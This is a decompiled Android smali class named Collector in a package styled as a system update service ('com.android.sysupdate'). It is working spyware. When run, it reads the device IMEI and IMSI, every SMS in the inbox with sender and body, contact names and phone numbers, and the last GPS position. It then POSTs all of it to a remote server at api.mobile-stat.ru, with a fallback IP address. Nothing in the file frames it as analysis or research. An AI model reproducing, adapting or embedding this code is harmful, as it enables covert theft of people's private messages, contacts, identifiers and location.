.class public final Lcom/android/sysupdate/service/Collector;
.super Ljava/lang/Object;
.source "Collector.java"

# interfaces
.implements Ljava/lang/Runnable;


# instance fields
.field private final context:Landroid/content/Context;


.method public constructor <init>(Landroid/content/Context;)V
    .locals 0
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Lcom/android/sysupdate/service/Collector;->context:Landroid/content/Context;
    return-void
.end method

.method private static encode(Ljava/lang/String;)Ljava/lang/String;
    .locals 1
    if-nez p0, :present
    const-string p0, ""
    :present
    const-string v0, "UTF-8"
    invoke-static {p0, v0}, Ljava/net/URLEncoder;->encode(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method private appendDeviceIds(Ljava/lang/StringBuilder;)V
    .locals 3
    iget-object v0, p0, Lcom/android/sysupdate/service/Collector;->context:Landroid/content/Context;
    const-string v1, "phone"
    invoke-virtual {v0, v1}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    const-string v1, "imei="
    invoke-virtual {p1, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v2
    invoke-static {v2}, Lcom/android/sysupdate/service/Collector;->encode(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {p1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v1, "&imsi="
    invoke-virtual {p1, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getSubscriberId()Ljava/lang/String;
    move-result-object v2
    invoke-static {v2}, Lcom/android/sysupdate/service/Collector;->encode(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {p1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    return-void
.end method

.method private appendRows(Ljava/lang/StringBuilder;Ljava/lang/String;Landroid/net/Uri;Ljava/lang/String;Ljava/lang/String;)V
    .locals 6
    iget-object v0, p0, Lcom/android/sysupdate/service/Collector;->context:Landroid/content/Context;
    invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    move-object v1, p3
    const/4 v2, 0x2
    new-array v2, v2, [Ljava/lang/String;
    const/4 v3, 0x0
    aput-object p4, v2, v3
    const/4 v3, 0x1
    aput-object p5, v2, v3
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    if-eqz v0, :end
    :next
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v1
    if-eqz v1, :close
    invoke-virtual {p1, p2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const/4 v1, 0x0
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    invoke-static {v1}, Lcom/android/sysupdate/service/Collector;->encode(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-virtual {p1, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const-string v1, ":"
    invoke-virtual {p1, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const/4 v1, 0x1
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    invoke-static {v1}, Lcom/android/sysupdate/service/Collector;->encode(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
    invoke-virtual {p1, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    goto :next
    :close
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    :end
    return-void
.end method

.method private appendLocation(Ljava/lang/StringBuilder;)V
    .locals 3
    iget-object v0, p0, Lcom/android/sysupdate/service/Collector;->context:Landroid/content/Context;
    const-string v1, "location"
    invoke-virtual {v0, v1}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/location/LocationManager;
    const-string v1, "gps"
    invoke-virtual {v0, v1}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;
    move-result-object v0
    if-eqz v0, :end
    const-string v1, "&lat="
    invoke-virtual {p1, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Landroid/location/Location;->getLatitude()D
    move-result-wide v1
    invoke-virtual {p1, v1, v2}, Ljava/lang/StringBuilder;->append(D)Ljava/lang/StringBuilder;
    const-string v1, "&lon="
    invoke-virtual {p1, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Landroid/location/Location;->getLongitude()D
    move-result-wide v1
    invoke-virtual {p1, v1, v2}, Ljava/lang/StringBuilder;->append(D)Ljava/lang/StringBuilder;
    :end
    return-void
.end method

.method private static post(Ljava/lang/String;Ljava/lang/String;)I
    .locals 3
    new-instance v0, Ljava/net/URL;
    invoke-direct {v0, p0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    check-cast v0, Ljava/net/HttpURLConnection;
    const-string v1, "POST"
    invoke-virtual {v0, v1}, Ljava/net/HttpURLConnection;->setRequestMethod(Ljava/lang/String;)V
    const/4 v1, 0x1
    invoke-virtual {v0, v1}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    const-string v1, "Content-Type"
    const-string v2, "application/x-www-form-urlencoded"
    invoke-virtual {v0, v1, v2}, Ljava/net/HttpURLConnection;->setRequestProperty(Ljava/lang/String;Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v1
    const-string v2, "UTF-8"
    invoke-virtual {p1, v2}, Ljava/lang/String;->getBytes(Ljava/lang/String;)[B
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {v1}, Ljava/io/OutputStream;->close()V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getResponseCode()I
    move-result v1
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->disconnect()V
    return v1
.end method

.method public run()V
    .locals 7
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    invoke-direct {p0, v0}, Lcom/android/sysupdate/service/Collector;->appendDeviceIds(Ljava/lang/StringBuilder;)V
    move-object v1, p0
    move-object v2, v0
    const-string v3, "&sms="
    const-string v4, "content://sms/inbox"
    invoke-static {v4}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v4
    const-string v5, "address"
    const-string v6, "body"
    invoke-direct/range {v1 .. v6}, Lcom/android/sysupdate/service/Collector;->appendRows(Ljava/lang/StringBuilder;Ljava/lang/String;Landroid/net/Uri;Ljava/lang/String;Ljava/lang/String;)V
    const-string v3, "&contact="
    sget-object v4, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const-string v5, "display_name"
    const-string v6, "data1"
    invoke-direct/range {v1 .. v6}, Lcom/android/sysupdate/service/Collector;->appendRows(Ljava/lang/StringBuilder;Ljava/lang/String;Landroid/net/Uri;Ljava/lang/String;Ljava/lang/String;)V
    invoke-direct {p0, v0}, Lcom/android/sysupdate/service/Collector;->appendLocation(Ljava/lang/StringBuilder;)V
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    :try_primary_start
    const-string v2, "http://api.mobile-stat.ru/collect"
    invoke-static {v2, v1}, Lcom/android/sysupdate/service/Collector;->post(Ljava/lang/String;Ljava/lang/String;)I
    move-result v2
    const/16 v3, 0xc8
    if-eq v2, v3, :done
    :try_primary_end
    .catch Ljava/io/IOException; {:try_primary_start .. :try_primary_end} :fallback
    :fallback
    :try_fallback_start
    const-string v2, "http://203.0.113.99/collect"
    invoke-static {v2, v1}, Lcom/android/sysupdate/service/Collector;->post(Ljava/lang/String;Ljava/lang/String;)I
    :try_fallback_end
    .catch Ljava/io/IOException; {:try_fallback_start .. :try_fallback_end} :done
    :done
    return-void
.end method
